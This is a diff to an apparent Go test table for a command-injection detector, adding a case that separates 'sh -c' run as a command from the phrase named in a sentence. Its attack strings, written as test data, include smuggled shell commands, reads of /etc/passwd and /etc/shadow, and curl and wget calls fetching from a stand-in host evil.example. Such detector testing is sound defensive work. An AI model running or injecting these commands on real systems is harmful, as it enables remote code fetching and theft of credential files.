@@ -77,6 +77,13 @@ var cmdiShapes = []cmdiShape{
 			"HEALTHCHECK CMD true; wget http://evil.example/s -O /tmp/s", "c'a't /etc/passwd", "${IFS}cat${IFS}/etc/passwd",
 			"/bin/unxz -c /var/log/secure.xz", "a=1 curl http://evil.example/x", "sudo cat /etc/shadow"},
 	},
+	{
+		// sh -c runs a string where sh is a command, not where a sentence names it.
+		name:   "shell -c named in a sentence",
+		benign: []string{"the job runner wraps every step in bash -c so quoting matters"},
+		attacks: []string{"; bash -c 'id'", "x && sh -c \"curl http://evil.example/x\"", "$SHELL -c id", "`sh -c id`",
+			"bash -c 'id'", "/bin/sh -c id"},
+	},
 }
 
 // TestCmdiShapesDetector holds each shape to the detector at the default sensitivity.
